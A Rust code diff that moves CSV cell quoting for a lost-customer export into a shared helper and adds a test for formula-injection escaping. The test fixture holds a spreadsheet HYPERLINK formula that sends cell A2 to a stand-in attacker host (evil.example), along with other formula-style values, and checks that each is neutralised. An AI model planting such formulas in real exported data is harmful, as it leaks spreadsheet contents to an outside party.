@@ -267,13 +267,7 @@ fn rank(reason: LostReason) -> u8 {
 
 /// The list as CSV (RFC 4180), for a spreadsheet.
 pub fn to_csv(rows: &[LostCustomer]) -> String {
-    fn cell(s: &str) -> String {
-        if s.contains([',', '"', '\n', '\r']) {
-            format!("\"{}\"", s.replace('"', "\"\""))
-        } else {
-            s.to_owned()
-        }
-    }
+    use crate::core::text::spreadsheet_cell as cell;
     let mut out = String::from(
         "customer_id,name,segment,city,reason,detail,since,last_contact_at,owner_name\r\n",
     );
@@ -318,5 +312,26 @@ mod tests {
         let csv = to_csv(&[row]);
         assert!(csv.contains("\"Кав'ярня \"\"Зерно\"\", Київ\""));
         assert!(csv.starts_with("customer_id,name,"));
+    }
+
+    #[test]
+    fn a_formula_in_a_name_is_text_in_the_spreadsheet() {
+        let row = LostCustomer {
+            customer_id: "id".into(),
+            name: "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")".into(),
+            segment: Segment::B2c,
+            city: Some("@SUM(A1)".into()),
+            reason: LostReason::Declined,
+            detail: "-2+3".into(),
+            since: None,
+            last_contact_at: None,
+            owner_id: None,
+            owner_name: None,
+        };
+        let csv = to_csv(&[row]);
+        let line = csv.lines().nth(1).unwrap();
+        assert!(line.contains(",\"'=HYPERLINK("), "{line}");
+        assert!(line.contains(",'@SUM(A1),"), "{line}");
+        assert!(line.contains(",'-2+3,"), "{line}");
     }
 }
